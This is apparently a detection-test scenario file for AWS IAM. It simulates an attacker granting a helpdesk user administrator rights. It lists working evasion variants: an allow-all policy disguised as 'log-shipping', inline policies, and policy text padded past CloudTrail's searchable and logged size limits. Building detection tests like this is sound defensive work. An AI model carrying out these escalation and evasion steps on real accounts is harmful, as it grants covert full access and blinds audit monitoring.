import { AttachUserPolicyCommand, CreatePolicyCommand, PutUserPolicyCommand, } from '@aws-sdk/client-iam';
import { awsCli, defineScenario, iamUser } from 'trailproof';
import { allowAll, padded } from './support/policies.js';
const mallory = iamUser('mallory', { place: 'amsterdam', client: awsCli({ os: 'kali' }) });
const admin = iamUser('admin', { place: 'frankfurt-office', client: awsCli({ os: 'ubuntu' }) });
const bob = iamUser('bob', { place: 'frankfurt-office', client: awsCli({ os: 'ubuntu' }) });
const attachAdmin = () => new AttachUserPolicyCommand({
    UserName: 'helpdesk',
    PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
});
const putInline = (play, document) => play.as(mallory).send(new PutUserPolicyCommand({
    UserName: 'helpdesk',
    PolicyName: 'tooling',
    PolicyDocument: document,
}));
export default defineScenario({
    title: 'An attacker makes a user administrator',
    techniques: ['T1098.003'],
    detectedBy: ['iam-admin-policy-attached-to-user'],
    world: {
        users: {
            mallory: { attached: ['IAMFullAccess'] },
            admin: { attached: ['IAMFullAccess'] },
            bob: { attached: ['ReadOnlyAccess'] },
            helpdesk: {},
        },
    },
    cast: { mallory, admin, bob },
    attack: { AdministratorAccess: (play) => play.as(mallory).send(attachAdmin()) },
    evasion: {
        'an own policy under a harmless name': {
            reason: 'No bundled rule reads what a policy allows.',
            play: async (play) => {
                const { Policy } = await play.as(mallory).send(new CreatePolicyCommand({
                    PolicyName: 'log-shipping',
                    PolicyDocument: JSON.stringify(allowAll),
                }));
                await play
                    .as(mallory)
                    .send(new AttachUserPolicyCommand({ UserName: 'helpdesk', PolicyArn: Policy?.Arn }));
            },
        },
        'everything by an inline policy': {
            reason: 'Nothing is attached, and no bundled rule reads the text of a policy.',
            play: (play) => putInline(play, JSON.stringify(allowAll)),
        },
        'an inline policy of fifty thousand characters': {
            reason: 'Above 8,191 characters request_parameters is not searchable and from 32,766 on the flattened copy is missing: no rule on the policy text could see it.',
            play: (play) => putInline(play, padded(allowAll, 50_000)),
        },
        'an inline policy padded beyond what CloudTrail keeps': {
            reason: 'CloudTrail omits the parameters, and the rule for omitted parameters wakes.',
            play: (play) => putInline(play, padded(allowAll, 110_000)),
        },
    },
    benign: {
        'a user that is not there': (play) => play.as(admin).send(new AttachUserPolicyCommand({
            UserName: 'nobody',
            PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
        }), { fails: 'NoSuchEntityException' }),
        'an attempt that is denied': (play) => play.as(bob).send(attachAdmin(), { fails: 'AccessDenied' }),
    },
});
//# sourceMappingURL=iam-admin-policy-to-user.js.map